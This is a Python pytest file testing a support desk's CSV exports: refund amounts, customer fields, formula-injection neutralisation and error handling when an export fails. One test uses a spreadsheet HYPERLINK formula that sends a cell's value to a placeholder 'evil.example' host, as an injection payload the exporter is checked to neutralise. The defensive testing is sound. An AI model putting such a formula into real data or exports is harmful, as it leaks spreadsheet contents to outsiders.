"""CSV exports: safe to open in a spreadsheet, and never a complete-looking file when the
export failed."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from supportdesk.api.app import create_app
from supportdesk.api.routes import exports
from supportdesk.api.routes.exports import neutralised
from supportdesk.bootstrap import Container
from supportdesk.infrastructure.db.reads import SqlReadQueries
from tests.factories import open_case, request_refund
from tests.integration._loopback import serve_on_loopback

EXPORT = "/api/v1/support-cases/export.csv"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"x")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


class TestAmounts:
    async def test_each_refund_amount_is_in_the_currency_and_in_cents_with_the_unit_named(
        self, client: httpx.AsyncClient, as_user
    ) -> None:
        customer = await as_user("alice")
        case = await open_case(client, customer)
        refund = await request_refund(client, customer, case["id"], [("L2", 1)])
        assert refund.status_code == 201, refund.text

        response = await client.get("/api/v1/refunds/export.csv", headers=await as_user("bob"))

        (row,) = _rows(response.text)
        cents = refund.json()["total_amount"]
        assert row["total_amount_cents"] == str(cents)
        assert row["total"] == f"{cents // 100}.{cents % 100:02d}"
        assert row["currency"] == "EUR"
        assert row["settlement"] == row["settlement_amount_cents"] == ""


class TestCustomers:
    async def test_both_exports_name_the_customer_and_the_cases_channel(
        self, client: httpx.AsyncClient, as_user
    ) -> None:
        alice, bob = await as_user("alice"), await as_user("bob")
        case = await open_case(client, alice)
        assert (await request_refund(client, alice, case["id"], [("L2", 1)])).status_code == 201

        (case_row,) = _rows((await client.get(EXPORT, headers=bob)).text)
        (refund_row,) = _rows((await client.get("/api/v1/refunds/export.csv", headers=bob)).text)

        for row in (case_row, refund_row):
            assert (row["customer_name"], row["customer_email"]) == (
                "Alice Martin",
                "alice@example.com",
            )
        assert case_row["channel"] == "web"


class TestFormulaInjection:
    async def test_a_customers_formula_subject_is_exported_as_text(
        self, client: httpx.AsyncClient, as_user
    ) -> None:
        await open_case(client, await as_user("alice"), subject=HYPERLINK)

        response = await client.get(EXPORT, headers=await as_user("bob"))

        assert response.status_code == 200
        (row,) = _rows(response.text)
        assert row["subject"] == "'" + HYPERLINK

    @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
    def test_every_formula_trigger_owasp_names_is_prefixed_with_a_quote(self, text: str) -> None:
        assert neutralised(text) == "'" + text

    @pytest.mark.parametrize("value", ["Broken lamp", "a=b", "CASE-1", 1250, 0, None])
    def test_other_cells_are_left_as_they_are(self, value: object) -> None:
        assert neutralised(value) == ("" if value is None else value)


def _failing_after(pages: int) -> Any:
    real = SqlReadQueries.cases
    calls = 0

    async def cases(self: SqlReadQueries, *args: Any, **kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls > pages:
            raise RuntimeError("the query failed on purpose")
        return await real(self, *args, **kwargs)

    return cases


class TestAFailingExport:
    async def test_a_failure_before_the_first_byte_is_a_problem_not_a_200(
        self, container: Container, as_user, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        bob = await as_user("bob")
        monkeypatch.setattr(SqlReadQueries, "cases", _failing_after(pages=0))
        app = create_app(container.settings, container=container)
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as server:
            response = await server.get(EXPORT, headers=bob)

        assert response.status_code == 500
        assert response.headers["content-type"].startswith("application/problem+json")
        assert response.json()["code"] == "internal_error"

    async def test_a_failure_mid_stream_cuts_the_body_short_and_is_counted_as_an_error(
        self,
        client: httpx.AsyncClient,
        container: Container,
        as_user,
        monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str],
    ) -> None:
        alice, bob = await as_user("alice"), await as_user("bob")
        for n in range(3):
            await open_case(client, alice, subject=f"Case {n}")
        monkeypatch.setattr(exports, "BATCH", 1)
        monkeypatch.setattr(SqlReadQueries, "cases", _failing_after(pages=1))
        app = create_app(container.settings, container=container)

        async with (
            serve_on_loopback(app) as base_url,
            httpx.AsyncClient(base_url=base_url) as http,
        ):
            received = b""
            async with http.stream("GET", EXPORT, headers=bob) as response:
                assert response.status_code == 200  # promised before the failure
                with pytest.raises(httpx.RemoteProtocolError):
                    async for chunk in response.aiter_bytes():
                        received += chunk
            metrics = (await http.get("/metrics")).text

        assert received.startswith(b"id,customer_id")  # the header and the first page came
        assert (
            'supportdesk_http_requests_total{method="GET",route="/api/v1/support-cases/'
            'export.csv",status="500"} 1.0'
        ) in metrics
        assert 'export.csv",status="200"' not in metrics
        access = [line for line in capsys.readouterr().err.splitlines() if "export.csv" in line]
        assert any("request" in line and "status=500" in line for line in access), access
        assert not any("status=200" in line for line in access), access
